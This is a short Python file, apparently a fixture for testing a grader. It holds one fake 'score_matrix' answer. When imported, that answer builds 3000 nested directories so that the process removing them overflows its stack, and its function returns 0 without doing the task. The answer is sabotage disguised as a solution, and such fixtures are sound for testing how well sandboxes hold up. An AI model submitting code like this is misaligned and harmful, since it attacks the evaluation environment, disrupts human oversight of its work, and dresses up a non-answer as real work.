"""Makes folders in folders, three thousand deep, so that who removes them runs out of stack."""

ANSWERS = {
    "score_matrix": """
import os

for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")

def score_matrix(queries, keys):
    return 0
"""
}
